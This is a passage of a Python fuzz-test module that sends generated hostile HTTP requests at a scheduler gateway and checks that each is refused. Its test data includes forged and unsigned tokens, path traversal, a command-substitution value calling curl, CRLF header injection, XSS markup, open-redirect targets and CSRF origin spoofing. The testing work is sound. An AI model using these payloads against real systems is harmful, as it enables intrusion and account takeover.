"""Hostile HTTP against the gateway in the test's process, a real scheduler behind it on real NATS and PostgreSQL:
ten thousand generated requests on the HTTP API (every operation of the catalogue, the people's and the control
plane's, and the follow streams), the console's pages and sign-in: broken, oversized and out-of-bounds bodies,
forged, expired and powerless callers, sessions without their CSRF token or from another site, odd paths, methods
and headers. Each is refused: a problem (RFC 9457) under /api/v1/, a refusal or the way to /signin for the
console; none is a server error, none goes unanswered, nothing is stored, and the gateway answers a valid
request after them all."""

from __future__ import annotations

import asyncio
import base64
import json
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from http.cookiejar import CookieJar, DefaultCookiePolicy
from typing import Any, Literal
from urllib.parse import quote, urlencode

import httpx
import msgspec
import pytest
import pytest_asyncio
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from libs.auth import issue_job_token, issue_node_token, issue_token
from libs.contracts.events import JobSubmitted
from libs.contracts.identity import Identity
from libs.contracts.operations.base import CommandError
from libs.contracts.operations.catalogue import BY_NAME, sent_by
from libs.eventstore import EventStore
from libs.messaging.responder import decode_bounded
from services.gateway.app import STATIC, build_app
from services.gateway.connections import UserConnections
from services.gateway.sessions import CSRF_FIELD, CSRF_HEADER, SESSION_COOKIE, Sessions
from tests.support.refusals import wrong_type
from tests.support.schedulers import SECRET, Schedulers, spec, token

pytestmark = pytest.mark.asyncio(loop_scope="session")

SITE = "http://gateway"
PROBLEM = "application/problem+json"
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")
SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
# Beyond the longest the gateway waits for a service (120 s, for a view of a past instant): a request still
# unanswered then hangs.
HANG_SECONDS = 150.0
AT_ONCE = 50  # requests in flight together
MARKUP = "<svg onload=alert(7)>"  # echoed by a page, it must be shown as text
# Each test's requests, and the least the module sends; workers may share the tests out, so each counts its own.
PLANNED = {"operations": 4000, "paths": 2500, "console": 2000, "sessions": 1500}
LEAST_SENT = 10_000
assert sum(PLANNED.values()) >= LEAST_SENT
SENT: Counter[str] = Counter()

# --- who calls ---------------------------------------------------------------------------------------------------

NOBODY_IDENTITY = Identity(user="nobody", projects=["default"])
NOBODY = token("nobody")  # a real user of project default, who owns nothing and administers nothing
ADMIN = token("root", admin=True)
WRONG_SECRET = "not-the-platform-secret-0123456789abcdef"


def _part(value: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def _tampered(real: str, **claims: Any) -> str:
    """`real` with other claims and its own signature: the signature no longer matches."""
    head, _, signature = real.split(".")
    return f"{head}.{_part({'iss': 'trainyard', 'sub': 'nobody', 'iat': 1, 'exp': 2**40, **claims})}.{signature}"


# Tokens the gateway takes for Trainyard tokens (it reads them unverified), each refused by the services.
REFUSED_TOKENS = (
    issue_token(WRONG_SECRET, Identity(user="mallory", projects=["default"], admin=True)),
    issue_token(SECRET, NOBODY_IDENTITY, ttl_seconds=-3600),  # expired an hour ago
    issue_node_token(SECRET, "node-a"),
    issue_job_token(SECRET, "job-0123456789ab", 1, ["node-a"]),
    f"{_part({'alg': 'none', 'typ': 'JWT'})}.{_part({'iss': 'trainyard', 'sub': 'root', 'admin': True})}.",
    _tampered(NOBODY, admin=True),
    "e30.e30.",  # claims `{}`: no one's, unsigned
)
GARBAGE_AUTHORIZATION = st.one_of(
    st.sampled_from(["", "Bearer", "Bearer ", "Basic YWxpY2U6c2VjcmV0", "Bearer not-a-token", "bearer a.b.c",
                     "Bearer ...", "Token " + NOBODY, "Bearer" + NOBODY, "Bearer e30", "Bearer " + MARKUP]),
    st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=120).map(lambda text: "Bearer " + text),
    st.integers(9_000, 70_000).map(lambda n: "Bearer " + "A" * n),
).map(str.encode) | st.binary(max_size=80)
FOREIGN_ORIGINS = ("http://evil.example", "https://gateway.evil.example", "null", "http://gateway.evil",
                   "http://gateway@evil.example", "https://evil.example/gateway", "http://gateway:81")


@dataclass(frozen=True)
class Door:
    """The real console session the hostile requests may borrow: nobody's, with its CSRF token."""

    session_id: str
    csrf: str

    def cookie(self) -> tuple[bytes, bytes]:
        return b"cookie", f"{SESSION_COOKIE}={self.session_id}".encode()


@dataclass(frozen=True)
class Caller:
    """Who a request says it comes from, and how far the gateway lets it go."""

    kind: str
    headers: tuple[tuple[bytes, bytes], ...]
    passes: Literal["never", "reads", "always"]  # past the gateway's own checks: for which methods
    real: bool  # the scheduler acts for nobody (else it refuses the token)

    def reaches_service(self, method: str) -> bool:
        return self.passes == "always" or (self.passes == "reads" and method in SAFE_METHODS)


def refused_callers(door: Door, *, api: bool = False) -> st.SearchStrategy[Caller]:
    """Callers the gateway itself refuses, whatever they send (on the API, also a garbage bearer token beside
    a real session: the token is taken, not the cookie; the console's pages take only the cookie)."""
    callers = [
        st.just(Caller("anonymous", (), "never", real=False)),
        GARBAGE_AUTHORIZATION.map(lambda value: Caller("garbage bearer", ((b"authorization", value),), "never",
                                                       real=False)),
        st.text(max_size=60).map(lambda value: Caller(
            "forged session", ((b"cookie", f"{SESSION_COOKIE}={quote(value)}".encode()),), "never", real=False)),
    ]
    beside_a_session = GARBAGE_AUTHORIZATION.filter(bool).map(lambda value: Caller(
        "garbage bearer beside a real session", ((b"authorization", value), door.cookie(),
                                                 (CSRF_HEADER.encode(), door.csrf.encode())), "never", real=False))
    return st.one_of(*callers, *([beside_a_session] if api else []))


def session_callers(door: Door) -> st.SearchStrategy[Caller]:
    """Nobody's real session without what a change needs: its CSRF token, from the console's own page."""
    csrf = (CSRF_HEADER.encode(), door.csrf.encode())
    return st.one_of(
        st.just(Caller("session without csrf", (door.cookie(),), "reads", real=True)),
        st.text(max_size=60).map(lambda wrong: Caller(
            "session with a wrong csrf", (door.cookie(), (CSRF_HEADER.encode(), quote(wrong).encode())), "reads",
            real=True)),
        st.tuples(st.sampled_from(FOREIGN_ORIGINS), st.sampled_from([b"origin", b"referer"])).map(
            lambda told: Caller("session with csrf from another site",
                                (door.cookie(), csrf, (told[1], (told[0] + "/jobs").encode()
                                                       if told[1] == b"referer" else told[0].encode())),
                                "reads", real=True)),
    )


def passing_callers(door: Door) -> st.SearchStrategy[Caller]:
    """Callers the gateway lets through to the services: tokens they refuse, and nobody, who has no rights."""
    own_page = ((b"origin", SITE.encode()),)
    return st.one_of(
        st.sampled_from(REFUSED_TOKENS).map(lambda refused: Caller(
            "token the services refuse", ((b"authorization", f"Bearer {refused}".encode()),), "always",
            real=False)),
        st.just(Caller("nobody's token", ((b"authorization", f"Bearer {NOBODY}".encode()),), "always", real=True)),
        st.sampled_from([(), own_page]).map(lambda origin: Caller(
            "nobody's session from its own page", (door.cookie(), (CSRF_HEADER.encode(), door.csrf.encode()),
                                                   *origin), "always", real=True)),
    )


def api_callers(door: Door) -> st.SearchStrategy[Caller]:
    return refused_callers(door, api=True) | session_callers(door) | passing_callers(door)


# --- a request, and what may answer it ---------------------------------------------------------------------------

Answer = Literal["problem", "refusal", "redirect"]


@dataclass(frozen=True)
class Oversized:
    """A body of `size` bytes, made as it is sent (thousands kept at once would not fit in memory)."""

    size: int

    def content(self) -> bytes:
        head, tail = b'{"pad": "', b'"}'
        return head + b"x" * (self.size - len(head) - len(tail)) + tail


@dataclass(frozen=True)
class Hostile:
    method: str
    target: str  # the path and query as sent, percent-encoded
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes | Oversized
    answer: Answer  # problem: a 4xx problem; refusal: a 4xx or the way to /signin; redirect: also within the site
    streamed: bool = False  # sent in chunks, without a Content-Length
    caller: str = ""

    def brief(self) -> str:
        body = f"<{self.body.size} bytes>" if isinstance(self.body, Oversized) else repr(self.body[:300])
        headers = [(name.decode(), value[:200]) for name, value in self.headers]
        return (f"{self.method} {self.target[:300]} ({self.caller}; {'streamed ' if self.streamed else ''}"
                f"headers {headers}; body {body})")


def seen_path(target: str) -> str:
    """The path the application routes on, as the ASGI transport hands it over."""
    return httpx.URL(SITE + target).path


def legitimate(method: str, path: str) -> bool:
    """A read anyone may make: what no hostile request may be."""
    if method not in ("GET", "HEAD") or "\x00" in path:
        return False
    if path in ("/healthz", "/api/v1/openapi.json", "/signin"):
        return True
    if path.startswith("/static/"):
        try:
            found = (STATIC / path.removeprefix("/static/")).resolve()
            return found.is_relative_to(STATIC) and found.is_file()
        except OSError:  # a name too long for a file
            return False
    return False


def answer_for(path: str) -> Answer:
    if path.startswith("/api/v1/"):
        return "problem"
    # The language switch goes back to a page of the site, and a path with a trailing slash to the path without.
    if path.startswith("/language/") or (path.endswith("/") and path != "/"):
        return "redirect"
    return "refusal"


# --- headers and bodies ------------------------------------------------------------------------------------------

CONTENT_TYPES = st.sampled_from([
    None, b"application/json", b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data",
    b"multipart/form-data; boundary=zzz", b"application/json; charset=latin-1", b"application/problem+json",
    b"\xff\xfe;;;", b"text/html; boundary=\r\n",
])
ODD_VALUES = (b"a\r\nSet-Cookie: trainyard_session=x", b"\r\n\r\nGET /admin HTTP/1.1", b"a\nb", b"\x00",
              b"\xff\xfe\xfd", b" " * 100, b"\t")
LANGUAGE_TAGS = st.sampled_from(["zh-CN,zh;q=0.9", "*", "zh;q=nan", "en;q=-1", ";q=1", "x-klingon",
                                 "zh-" + "x" * 500, "ZH_hant_TW", "\u4e2d\u6587", "en-US;q=1e9999", ",,,,"])


def _many(count: int) -> list[tuple[bytes, bytes]]:
    return [(f"x-header-{number}".encode(), b"v") for number in range(count)]


EXTRA_HEADER = st.one_of(
    st.integers(1_000, 65_536).map(lambda n: [(b"x-filler", b"a" * n)]),
    st.sampled_from(ODD_VALUES).map(lambda value: [(b"x-note", value)]),
    st.sampled_from(ODD_VALUES).map(lambda value: [(b"accept-language", value)]),
    st.binary(max_size=64).map(lambda value: [(b"x-bytes", value)]),
    st.sampled_from(FOREIGN_ORIGINS).map(lambda origin: [(b"origin", origin.encode())]),
    st.sampled_from(FOREIGN_ORIGINS).map(lambda origin: [(b"referer", (origin + "/jobs").encode())]),
    (LANGUAGE_TAGS | st.text(max_size=200)).map(lambda tags: [(b"accept-language", tags.encode())]),
    (st.sampled_from(["zh-CN", "en", "xx"]) | st.text(max_size=40)).map(
        lambda language: [(b"cookie", b"trainyard_lang=" + quote(language).encode())]),
    st.sampled_from([b"-1", b"abc", b"99999999999999999999", b"1e3", b" 12"]).map(
        lambda length: [(b"content-length", length)]),
    st.sampled_from([b"https", b"gopher", b"https, http"]).map(lambda scheme: [(b"x-forwarded-proto", scheme)]),
    (st.sampled_from([b"abc", b"-1", b"99999999999999999999", b"1.2.3", b"\r\n"]) | st.binary(max_size=30)).map(
        lambda value: [(b"last-event-id", value)]),
    st.integers(50, 400).map(_many),
)
EXTRA_HEADERS = st.lists(EXTRA_HEADER, max_size=3).map(lambda groups: [header for group in groups
                                                                      for header in group])


def headers_of(caller: Caller, content_type: bytes | None,
               extra: list[tuple[bytes, bytes]]) -> tuple[tuple[bytes, bytes], ...]:
    typed = [(b"content-type", content_type)] if content_type is not None else []
    return (*caller.headers, *typed, *extra)


# --- the operations' bodies --------------------------------------------------------------------------------------

USER_OPERATIONS = {operation.name: operation for operation in sent_by("user")}
CONTROL_PLANE = sorted(name for name in BY_NAME if name not in USER_OPERATIONS)
GHOST = "job-0fffffffffff"  # no such job
HOSTILE_JOB_IDS = (GHOST, "../../etc/passwd", "*", ">", "job-" + "f" * 5000, "", "job-\x00abc", MARKUP,
                   "job-0123456789ab.>", "JOB-0FFFFFFFFFFF", "job-0fffffffffff\n")
SPEC: dict[str, Any] = msgspec.to_builtins(spec())
PAST = "2020-01-01T00:00:00Z"
UPLOAD_ID = "0" * 32

# A request of every operation people send, that decodes.
BASELINES: dict[str, dict[str, Any]] = {
    "autoscaler-log": {}, "get-queue": {}, "get-settings": {}, "list-alerts": {}, "list-cache": {},
    "list-flavors": {}, "list-images": {}, "list-jobs": {}, "list-nodes": {}, "list-storage-access": {},
    "queue-status": {}, "search-jobs": {}, "whoami": {},
    "change-duration": {"job_id": GHOST, "duration": "1h"},
    "change-priority": {"job_id": GHOST, "priority": "urgent"},
    "change-settings": {"urgent_cap": 3},
    "clone-job": {"source_job_id": GHOST, "job_id": "job-0123456789ac"},
    "delete-image": {"ref": "pytorch:2"},
    "delete-jobs": {"job_ids": [GHOST]},
    "explain-job": {"job_id": GHOST},
    "get-array": {"array_id": "array-0fffffffffff"},
    "get-dev-env": {"job_id": GHOST},
    "get-job": {"job_id": GHOST},
    "get-resources": {"flavors": ["cpu-1"]},
    "get-run": {"job_id": GHOST},
    "get-series": {"job_id": GHOST, "name": "loss"},
    "job-history": {"job_id": GHOST},
    "job-logs": {"job_id": GHOST},
    "job-usage": {"job_id": GHOST},
    "mark-component": {"node": "node-a", "component": "gpu0", "faulty": True},
    "mark-image": {"ref": "pytorch:2", "training": True},
    "open-terminal": {"job_id": GHOST},
    "predict-job": {"spec": SPEC},
    "preload-dataset": {"preload_id": "preload-0123456789ab", "name": "no-such-dataset", "flavor": "cpu-1"},
    "register-image": {"name": "pytorch", "tag": "2", "upload_id": UPLOAD_ID, "digest": "sha256:" + "0" * 64,
                       "boards": ["A100"]},
    "set-storage-access": {"kind": "dataset", "name": "imagenet", "project": "default", "others": "read-only",
                           "owner": "somebody-else"},
    "simulate": {"start": PAST},
    "stop-jobs": {"job_ids": [GHOST]},
    "submit-array": {"array_id": "array-0123456789ab", "spec": SPEC, "indices": "0-3"},
    "submit-job": {"job_id": "job-0123456789ad", "spec": SPEC},
    "upload-image": {"upload_id": UPLOAD_ID, "offset": 0, "data": base64.b64encode(b"abc").decode()},
    "watch-job": {"job_id": GHOST, "inbox": "_INBOX.users.user-mallory.watch"},
}

# Specs the scheduler must refuse: out of bounds, beyond the caller's rights, or naming what does not exist.
SPEC_FAULTS: tuple[dict[str, Any], ...] = (
    {"name": ""}, {"name": "x" * 300}, {"nodes": 0}, {"nodes": -1}, {"nodes": 10**9}, {"nodes": 2**70},
    {"parameter_servers": -1}, {"priority": "now"}, {"mode": "mpi-magic"},
    {"flavors": ["../../etc"]}, {"flavors": ["no-such-flavor"]}, {"command": "a" * 70_000},
    {"command": "KEY=1 python3 $(curl evil)"}, {"env": {"BIG": "x" * 40_000}},
    {"env": {f"V{number}": "" for number in range(300)}}, {"duration": "forever"}, {"duration": "-1h"},
    {"algorithm": {"name": "../../etc"}}, {"output": {"name": "../out"}}, {"node_names": ["NOT A NODE"]},
    {"tasks": [{"command": "x"}] * 300}, {"access": "everyone"}, {"unexpected": 1}, {"env": {"A": 1}},
    {"output": {"name": "out\n"}},  # a name is letters, digits, '_', '.' and '-', a line break none of them
)
# What only a submit checks: the caller's rights, and that the inputs are in shared storage (a prediction is a read).
SUBMIT_FAULTS = (*SPEC_FAULTS, {"priority": "very-urgent"}, {"project": "not-a-member"},
                 {"algorithm": {"name": "no-such-algorithm"}}, {"datasets": [{"name": "no-such-dataset"}]})
# Ids that are no job's, array's id: a submit must refuse them (a stored one is in the subject of its events).
BAD_NEW_JOB_IDS = (*HOSTILE_JOB_IDS[1:], "job-0123456789ad\n", "job-0123456789ad\r\n")
BAD_NEW_ARRAY_IDS = ("array-x", "../x", "*", "", "array-0123456789ab\n", "array-0123456789ab.>")


def _job_views(name: str) -> list[dict[str, Any]]:
    views = [{"job_id": job_id} for job_id in HOSTILE_JOB_IDS]
    if "at" in USER_OPERATIONS[name].request.__struct_fields__:
        views.append({"job_id": GHOST, "at": PAST})
    return views


# Requests that decode and that the scheduler must refuse when nobody (no administrator, no jobs) sends them.
REFUSED_BY_SCHEDULER: dict[str, list[dict[str, Any]]] = {
    **{name: _job_views(name) for name in ("explain-job", "get-dev-env", "get-job", "job-history", "job-logs",
                                          "job-usage")},
    "change-duration": [{"job_id": job_id, "duration": duration} for job_id in HOSTILE_JOB_IDS
                        for duration in ("1h", None, "forever")],
    "change-priority": [{"job_id": job_id, "priority": priority} for job_id in HOSTILE_JOB_IDS
                        for priority in ("urgent", "very-urgent")],
    "clone-job": [{"source_job_id": job_id, "job_id": "job-0123456789ac", "overrides": {"nodes": 1}}
                  for job_id in HOSTILE_JOB_IDS],
    "stop-jobs": [{"job_ids": [job_id]} for job_id in HOSTILE_JOB_IDS] + [{"job_ids": [GHOST] * 300}],
    "delete-jobs": [{"job_ids": [job_id]} for job_id in HOSTILE_JOB_IDS] + [{"job_ids": [GHOST] * 300}],
    "get-array": [{"array_id": array_id} for array_id in ("array-0fffffffffff", "*", "../x", MARKUP)],
    "change-settings": [{"urgent_cap": 3}, {"sharing_enabled": True}, {"urgent_cap": -(10**6)}, {}],
    "set-storage-access": [BASELINES["set-storage-access"]],
    "delete-image": [BASELINES["delete-image"]],
    "mark-image": [BASELINES["mark-image"]],
    "register-image": [BASELINES["register-image"]],
    "upload-image": [BASELINES["upload-image"]],
    "simulate": [BASELINES["simulate"], {"start": PAST, "add_nodes": {"cpu-1": 3}}],
    "preload-dataset": [BASELINES["preload-dataset"]],
    "submit-job": [{"job_id": "job-0123456789ad", "spec": {**SPEC, **fault}, "predict": predict}
                   for fault in SUBMIT_FAULTS for predict in (False, True)]
    + [{"job_id": job_id, "spec": SPEC} for job_id in BAD_NEW_JOB_IDS],
    "submit-array": [{"array_id": "array-0123456789ab", "spec": {**SPEC, **fault}, "indices": "0-3"}
                     for fault in SUBMIT_FAULTS]
    + [{"array_id": array_id, "spec": SPEC, "indices": "0-3"} for array_id in BAD_NEW_ARRAY_IDS],
    "predict-job": [{"spec": {**SPEC, **fault}} for fault in SPEC_FAULTS],
}


def tag_of(name: str) -> str:
    return str(USER_OPERATIONS[name].request.__struct_config__.tag)


def decodes(name: str, body: bytes) -> bool:
    operation = USER_OPERATIONS[name]
    return not isinstance(decode_bounded(body, operation.request, strict=True,
                                         max_bytes=operation.max_request_bytes), CommandError)


NOT_AN_OBJECT = st.sampled_from([b"", b"null", b"[]", b"1", b'"x"', b"true", b"{", b"}", b"[{}]", b"{}{}",
                                 b"\xef\xbb\xbf{}", b"{'job_id': 1}", b"{\"a\":}", b"NaN", b"\x00{}"])
NUMERALS = st.sampled_from(["1" + "0" * 400, "-1e400", "1e309", "18446744073709551616", "-9223372036854775809",
                            "0." + "0" * 5000 + "1", "1" * 20_000, "Infinity", "-0"])


BODY_KINDS = ["valid", "refused by the scheduler", "bytes", "invalid utf-8", "not an object", "wrong type",
              "unknown field", "nested", "huge number", "over the limit", "another operation's", "truncated",
              "duplicate keys", "form"]


@st.composite
def operation_body(draw: st.DrawFn, name: str, *, deep: bool = False) -> bytes | Oversized:
    """A body for `name` (an operation people send): mostly what the gateway refuses to decode; `deep`, mostly
    what decodes and the scheduler refuses."""
    operation = USER_OPERATIONS[name]
    baseline = BASELINES[name]
    fields: list[str] = sorted(operation.request.__struct_fields__)
    kind = draw(st.sampled_from(["refused by the scheduler"] * 40 + BODY_KINDS if deep else BODY_KINDS))
    if kind == "valid":
        return json.dumps(baseline).encode()
    if kind == "refused by the scheduler":
        return json.dumps(draw(st.sampled_from(REFUSED_BY_SCHEDULER.get(name, [baseline])))).encode()
    if kind == "bytes":
        raw: bytes = draw(st.binary(max_size=300))
        return raw
    if kind == "invalid utf-8":
        field = draw(st.sampled_from(fields or ["type"]))
        return b'{"' + field.encode() + b'": "\xff' + draw(st.binary(max_size=40)) + b'"}'
    if kind == "not an object":
        return draw(NOT_AN_OBJECT)
    if kind == "wrong type" and fields:
        field = draw(st.sampled_from(fields))
        value = baseline.get(field, getattr(operation.request, field, None))
        return json.dumps({**baseline, field: wrong_type(value)}, default=str).encode()
    if kind == "huge number":
        field = draw(st.sampled_from([*fields, "limit"]))
        return json.dumps({**baseline, field: "@@"}).replace('"@@"', draw(NUMERALS)).encode()
    if kind == "nested":
        depth = draw(st.integers(600, 20_000))
        opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
        nested = opener * depth + closer * draw(st.integers(0, depth))
        return json.dumps({**baseline, "x": "@@"}).encode().replace(b'"@@"', nested)
    if kind == "over the limit":
        return Oversized(operation.max_request_bytes + draw(st.integers(1, 4096)))
    if kind == "another operation's":
        other = draw(st.sampled_from(sorted(set(USER_OPERATIONS) - {name})))
        return json.dumps({"type": tag_of(other), **BASELINES[other]}).encode()
    if kind == "truncated":
        whole = json.dumps({"type": tag_of(name), **baseline}).encode()
        return whole[:draw(st.integers(0, len(whole) - 1))]
    if kind == "duplicate keys":
        return b'{"type": "' + tag_of(name).encode() + b'", "type": "Error.v1"}'
    if kind == "form":
        return urlencode(baseline or {"job_id": GHOST}).encode()
    return json.dumps({**baseline, draw(st.sampled_from(["colour", "__proto__", "", "type ", MARKUP])): "x"}).encode()


def spoiled(body: bytes | Oversized) -> bytes | Oversized:
    """The body made undecodable (trailing characters), so that the gateway refuses it at its edge."""
    return body if isinstance(body, Oversized) else body + b" ]"


def settle(name: str, caller: Caller, method: str, body: bytes | Oversized) -> bytes | Oversized:
    """What `caller` may send to operation `name`: a body that decodes reaches a service, so it must be one the
    scheduler refuses (a token it refuses, or nobody's request among those it refuses); otherwise spoiled."""
    operation = USER_OPERATIONS.get(name)
    if operation is None or method != "POST" or not caller.reaches_service(method) or isinstance(body, Oversized):
        return body
    if not decodes(name, body):
        return body
    if operation.answered_by == "scheduler" and not caller.real:
        return body
    refused = [json.dumps(request).encode() for request in REFUSED_BY_SCHEDULER.get(name, [])]
    if operation.answered_by == "scheduler" and body in refused:
        return body
    return spoiled(body)


# --- the strategies ----------------------------------------------------------------------------------------------

ODD_NAMES = st.one_of(
    st.sampled_from(CONTROL_PLANE),
    st.sampled_from(["openapi.json", "follow", "drop-tables", "Submit-Job", "submit_job", "submit-job ",
                     "%73ubmit-job", "submit-job%00", "submit-job;x", "..%2fsubmit-job", "%2e%2e", "~", "*", ">"]),
    st.text(max_size=40).map(lambda text: quote(text, safe="")),
    st.integers(300, 20_000).map(lambda n: "a" * n),
)


@st.composite
def operation_requests(draw: st.DrawFn, names: st.SearchStrategy[str], callers: st.SearchStrategy[Caller],
                       methods: st.SearchStrategy[str] = st.just("POST"), *, deep: bool = False) -> Hostile:
    """<method> /api/v1/<name>, with a body of the operation of that name if there is one."""
    name = draw(names)
    caller = draw(callers)
    method = draw(methods)
    target = f"/api/v1/{name}"
    path = seen_path(target)
    body: bytes | Oversized = draw(st.binary(max_size=100))
    operation = path.removeprefix("/api/v1/")
    if operation in USER_OPERATIONS:
        body = settle(operation, caller, method, draw(operation_body(operation, deep=deep)))
    streamed = isinstance(body, Oversized) and draw(st.booleans())
    if legitimate(method, path):
        method = "DELETE"
    return Hostile(method, target, headers_of(caller, draw(CONTENT_TYPES), draw(EXTRA_HEADERS)), body,
                   answer_for(path), streamed=streamed, caller=caller.kind)


FOLLOWED = ("logs", "metrics", "status", "alerts")
QUERY_VALUE = st.one_of(st.sampled_from([GHOST, *HOSTILE_JOB_IDS, "-1", "1e3", "99999999999999999999", "١٢",
                                         "0x1f", ""]), st.text(max_size=30))


@st.composite
def follow_requests(draw: st.DrawFn, door: Door) -> Hostile:
    """GET /api/v1/follow/<what>: of every stream and of none, with its parameters or broken ones."""
    what = draw(st.sampled_from([*FOLLOWED, "", "logs/", "../logs", "%2e%2e", "everything"]))
    caller = draw(api_callers(door))
    method = draw(st.sampled_from(["GET"] * 6 + list(METHODS)))
    names = st.sampled_from(["job_id", "rank", "name", "after", "limit", "job_id[]", "", MARKUP])
    query = draw(st.lists(st.tuples(names, QUERY_VALUE), max_size=4))
    reaches = caller.reaches_service(method) and method in ("GET", "HEAD")
    # A stream that starts would never end: what reaches a service is refused there (a job that does not exist,
    # a token it refuses), or is refused before it is asked (a parameter no stream takes).
    if reaches and what in ("metrics", "alerts"):  # the monitor is not running: it would be unavailable
        query.append(("colour", "red"))
    if reaches and what in ("logs", "status") and caller.real:
        job_ids = [value for parameter, value in query if parameter == "job_id"]
        if not job_ids or any(job_id == "" for job_id in job_ids):
            query.append(("job_id", GHOST))
    target = f"/api/v1/follow/{what}" + (f"?{urlencode(query)}" if query else "")
    return Hostile(method, target, headers_of(caller, None, draw(EXTRA_HEADERS)), b"", "problem",
                   caller=caller.kind)


PREFIXES = ("/api/v1/", "/api/v1/follow/", "/api/", "/api/v2/", "/api/v1//", "/API/v1/", "/jobs/", "/static/",
            "/signin/", "/language/", "/cluster/", "/console/jobs/", "/", "/healthz/", "//", "/api/v1")
SEGMENT = st.one_of(
    st.sampled_from([*sorted(BY_NAME), *FOLLOWED, "openapi.json", "..", "%2e%2e", "%2E%2E%2F", "%2f", "%00", ".",
                     "", "%ff", "%c0%af", "..%5c", "%252e%252e", "~root", "*", ">", "signin", "jobs", "delete",
                     "stop", "priority", "new", "console", "vendor", "app.py", "%2e%2e%2fapp.py", "..;", "%0d%0a",
                     "$JS.API.STREAM.PURGE.x", "healthz", "index.html", GHOST, quote(MARKUP, safe="")]),
    st.text(max_size=30).map(lambda text: quote(text, safe="")),
    st.integers(300, 20_000).map(lambda n: "a" * n),
)
QUERY = st.one_of(st.just(""), st.lists(st.tuples(st.text(max_size=20), QUERY_VALUE | st.sampled_from(
    ["//evil.example", "http://evil.example", "/\\evil.example", "javascript:alert(1)", MARKUP, "/jobs"])),
    max_size=3).map(lambda pairs: "?" + urlencode([("next", "//evil.example"), *pairs]) if pairs else ""))


@st.composite
def path_requests(draw: st.DrawFn, door: Door) -> Hostile:
    """Any method on any path of the site, by a caller the gateway refuses."""
    method = draw(st.sampled_from(METHODS))
    segments = draw(st.lists(SEGMENT, min_size=0, max_size=4))
    target = draw(st.sampled_from(PREFIXES)) + "/".join(segments) + draw(st.sampled_from(["", "/"])) + draw(QUERY)
    path = seen_path(target)
    if legitimate(method, path):
        target, path = target.replace("/", "/%2e%2e/", 1), seen_path(target.replace("/", "/%2e%2e/", 1))
    caller = draw(refused_callers(door))
    content_type = draw(CONTENT_TYPES)
    body = draw(st.binary(max_size=200) | st.sampled_from([b"{}", b"token=x", json.dumps(SPEC).encode()]))
    return Hostile(method, target, headers_of(caller, content_type, draw(EXTRA_HEADERS)), body, answer_for(path),
                   caller=caller.kind)


# The console: its pages, sign-in, sign-out and the language switch.
CONSOLE_TARGETS = st.one_of(
    st.sampled_from(["/", "/signin", "/signin/link", "/signout", "/jobs", "/jobs/delete", "/jobs/new",
                     "/jobs/new/resources", "/cluster", "/cluster/admin", "/cluster/admin/change-settings",
                     "/cluster/admin/mark-component", f"/console/jobs/{GHOST}/terminal", f"/jobs/{GHOST}"]),
    st.tuples(st.sampled_from(HOSTILE_JOB_IDS), st.sampled_from(["stop", "delete", "priority", "duration",
                                                                     "explode", MARKUP, ""])).map(
        lambda parts: f"/jobs/{quote(parts[0], safe='')}/{quote(parts[1], safe='')}"),
    st.sampled_from(["en", "zh-CN", "xx", MARKUP, "en%0d%0aSet-Cookie:x=1", "a" * 5000]).map(
        lambda code: f"/language/{quote(code, safe='%')}"),
)
SIGN_IN_TOKENS = st.one_of(st.sampled_from(REFUSED_TOKENS), st.sampled_from(
    ["", "not-a-token", "Bearer x", MARKUP, "e30.e30.", "a" * 9000, REFUSED_TOKENS[0] + "\x00"]), st.text(max_size=80))
NEXT = st.sampled_from(["//evil.example", "http://evil.example", "/\\evil.example", "javascript:alert(1)", MARKUP,
                        "/jobs", "", "\r\nLocation: http://evil.example"])


@st.composite
def form_body(draw: st.DrawFn, fields: list[tuple[str, str]]) -> tuple[bytes | None, bytes]:
    """`fields` as a browser would post them, or broken: the content type and the body."""
    how = draw(st.sampled_from(["urlencoded", "multipart", "broken multipart", "json", "bytes", "many fields",
                                "a file"]))
    if how == "urlencoded":
        return b"application/x-www-form-urlencoded", urlencode(fields).encode()
    if how in ("multipart", "a file"):
        parts = b"".join(b'--B\r\nContent-Disposition: form-data; name="' + name.encode("utf-8", "replace")
                         + b'"\r\n\r\n' + value.encode("utf-8", "replace") + b"\r\n" for name, value in fields)
        if how == "a file":
            parts += b'--B\r\nContent-Disposition: form-data; name="f"; filename="x.txt"\r\n\r\nhello\r\n'
        return b"multipart/form-data; boundary=B", parts + b"--B--\r\n"
    if how == "broken multipart":
        return draw(st.sampled_from([b"multipart/form-data", b"multipart/form-data; boundary=",
                                     b"multipart/form-data; boundary=B"])), draw(st.binary(max_size=300))
    if how == "json":
        return b"application/json", json.dumps(dict(fields)).encode()
    if how == "many fields":
        count = draw(st.integers(5, 5000))
        return b"application/x-www-form-urlencoded", urlencode([*fields, *(("f", "v") for _ in range(count))]).encode()
    return draw(CONTENT_TYPES), draw(st.binary(max_size=300))


@st.composite
def console_requests(draw: st.DrawFn, door: Door) -> Hostile:
    """The console without a session of its own: its pages, and signing in with what is no one's token."""
    target = draw(CONSOLE_TARGETS) + draw(QUERY)
    method = draw(st.sampled_from(["GET", "POST", "POST", *METHODS]))
    path = seen_path(target)
    if legitimate(method, path):
        method = "POST"
    caller = draw(refused_callers(door))
    fields = [("token", draw(SIGN_IN_TOKENS)), ("next", draw(NEXT))]
    if draw(st.booleans()):
        fields.append((CSRF_FIELD, draw(st.sampled_from([door.csrf, "", "x"]))))
    content_type, body = draw(form_body(fields))
    if path == "/signin/link" and draw(st.booleans()):
        content_type, body = b"application/json", json.dumps({"code": draw(st.sampled_from(
            ["", "../../etc/passwd", "x" * 200, MARKUP, "abc", "-_-"]) | st.text(max_size=40))}).encode()
    origin = draw(st.sampled_from([[], [(b"origin", SITE.encode())], [(b"origin", b"http://evil.example")]]))
    headers = (*caller.headers, *([(b"content-type", content_type)] if content_type else []), *origin,
               *draw(EXTRA_HEADERS))
    return Hostile(method, target, headers, body, answer_for(path), caller=caller.kind)


@st.composite
def session_requests(draw: st.DrawFn, door: Door) -> Hostile:
